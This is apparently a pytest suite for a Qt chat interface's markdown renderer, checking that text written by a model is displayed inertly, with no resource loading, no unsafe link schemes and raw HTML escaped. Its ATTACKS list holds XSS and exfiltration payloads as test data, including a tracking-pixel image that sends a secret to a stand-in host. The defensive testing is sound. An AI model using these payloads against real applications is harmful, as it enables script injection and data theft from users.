"""What a model writes is shown and never acted upon."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PySide6.QtCore import QUrl
from PySide6.QtGui import QTextDocument
from pytestqt.qtbot import QtBot

from app.domain.links import is_safe_link
from app.ui.chat.markdown import to_html
from app.ui.chat.rich_text import InertDocument
from app.ui.chat.syntax import blocks
from app.ui.theme import load_theme

THEME = load_theme("light")

OURS = ("citation:", "listing:", "table:")  # what no model can write: see the test of links

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src='file:///etc/passwd'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>* { display: none }</style>",
    "<table><tr><td background='http://evil.example/x.png'>",
    "![pixel](http://evil.example/pixel.png?q=secret)",
    "![x](file:///etc/passwd)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](x "onerror=alert(1)")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](smb://evil.example/share)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "```\"><img src=x>\n</pre><img src='http://evil.example'>\n```",
    "```html\n<img src='http://evil.example/x.png'>\n```",
    "`<img src=x>`",
    "# <img src=x onerror=alert(1)>",
    "| <img src=x> |\n|---|\n| <script> |",
    "[1]<img src=x>",
)


class Curious(QTextDocument):
    """A document that remembers what it was asked to load."""

    def __init__(self) -> None:
        super().__init__()
        self.asked: list[str] = []

    def loadResource(self, kind: int, name: QUrl | str) -> object:
        self.asked.append(QUrl(name).toString())
        return None


def links_of(document: QTextDocument) -> set[str]:
    found: set[str] = set()
    block = document.begin()
    while block.isValid():
        iterator = block.begin()
        while not iterator.atEnd():
            found.add(iterator.fragment().charFormat().anchorHref())
            iterator += 1
        block = block.next()
    return found - {""}


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_is_loaded_and_no_link_leaves_the_allowed_schemes(qtbot: QtBot, attack: str) -> None:
    document = Curious()
    document.setHtml(to_html(attack, THEME, (1,)))
    document.setTextWidth(600)
    document.size()
    assert [name for name in document.asked if not name.startswith("chip:")] == []
    assert all(link.startswith(OURS) or is_safe_link(link) for link in links_of(document))


@pytest.mark.parametrize("attack", ["<script>alert(1)</script>", "<b>not bold</b>", "`<img src=x>`", "a <img src=x> b"])
def test_raw_html_is_shown_as_it_was_written(qtbot: QtBot, attack: str) -> None:
    document = QTextDocument()
    document.setHtml(to_html(attack, THEME))
    assert document.toPlainText().strip() == attack.strip("`")


def test_a_picture_is_its_description(qtbot: QtBot) -> None:
    html = to_html("![the *floor* plan](http://evil.example/plan.png)", THEME)
    assert "evil.example" not in html
    assert "floor" in html


@pytest.mark.parametrize(
    ("target", "safe"),
    [
        ("https://example.com", True),
        ("http://example.com", True),
        ("mailto:a@example.com", True),
        ("HTTPS://example.com", True),
        ("javascript:alert(1)", False),
        ("file:///etc/passwd", False),
        ("data:text/html,x", False),
        ("//example.com", False),
        ("relative", False),
        ("http://[", False),
    ],
)
def test_links_lead_to_the_web_or_to_mail(target: str, safe: bool) -> None:
    assert is_safe_link(target) is safe


def test_only_known_citations_can_be_clicked(qtbot: QtBot) -> None:
    document = InertDocument(THEME, lambda _: None)
    document.setHtml(to_html("Known [1], both [1, 2], unknown [7], not a marker [x].", THEME, (1, 2)))
    assert links_of(document) == {"citation:1", "citation:2"}
    assert "[7]" in document.toPlainText()


@pytest.mark.parametrize("name", ["file:///etc/hostname", "https://evil.example/x.png", "chip:../x", "x.png"])
def test_an_inert_document_has_nothing_but_chips(qtbot: QtBot, name: str) -> None:
    document = InertDocument(THEME, lambda _: None)
    kind = QTextDocument.ResourceType.ImageResource.value
    assert document.loadResource(kind, QUrl(name)).isNull()
    assert not document.loadResource(kind, QUrl("chip:3")).isNull()


@pytest.mark.parametrize(
    "text",
    [
        "One paragraph.",
        "One.\n\nTwo.\n",
        "Text\n\n- a\n- b\n\n```python\nx = 1\n\ny = 2\n```\n\nEnd",
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n\n---\n\n# Heading\ntext",
        "```\nunfinished",
        "\n\nleading",
    ],
)
def test_blocks_joined_are_the_text(text: str) -> None:
    assert "".join(blocks(text)) == text


@given(st.text(alphabet="ab \n`#-*|[]()<>1.\t\r\u2028&", max_size=80))
def test_any_text_splits_and_renders(text: str) -> None:
    assert "".join(blocks(text)) == text
    assert "<img" not in to_html(text, THEME)


def test_a_blank_line_inside_a_listing_does_not_end_it() -> None:
    assert len(blocks("```\na\n\nb\n```\n\nafter")) == 2


def test_code_is_coloured_and_still_escaped(qtbot: QtBot) -> None:
    html = to_html("```python\nprint('<b>')  # why\n```", THEME)
    assert THEME["muted"] in html
    assert "<b>" not in html


@pytest.mark.parametrize("language", ["", "python", "no such"])
def test_blank_lines_of_a_listing_stay(qtbot: QtBot, language: str) -> None:
    document = QTextDocument()
    document.setHtml(to_html(f"```{language}\n\nx\n\n\ny\n\n```", THEME, headed=False))
    lines = document.toPlainText().replace("\u2028", "\n").strip("\ufdd0\ufdd1 ").split("\n")
    x, y = lines.index("x"), lines.index("y")
    assert (y - x, lines[x - 1], lines[y + 1]) == (3, "", "")
